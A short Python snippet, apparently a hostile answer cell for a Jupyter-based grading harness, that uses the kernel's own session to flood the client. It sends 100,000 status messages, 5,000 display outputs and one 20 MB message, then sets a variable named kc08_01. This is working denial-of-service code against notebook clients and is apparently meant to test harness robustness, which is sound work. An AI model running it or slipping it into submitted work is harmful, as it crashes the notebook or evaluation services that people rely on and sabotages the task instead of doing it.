# flood the client from the answer cell: signed status messages of no cell, then thousands of outputs of the current cell, then one message larger than the client accepts
from ipykernel.kernelapp import IPKernelApp

_k = IPKernelApp.instance().kernel
_parent = _k.get_parent("shell")
for _ in range(100_000):
    _k.session.send(_k.iopub_socket, "status", {"execution_state": "busy"}, parent={})
for _ in range(5_000):
    _k.session.send(_k.iopub_socket, "display_data",
                    {"metadata": {}, "data": {"text/plain": "1"}}, parent=_parent)
_k.session.send(_k.iopub_socket, "display_data",
                {"metadata": {}, "data": {"text/plain": "x" * (20 << 20)}}, parent=_parent)
kc08_01 = "z"
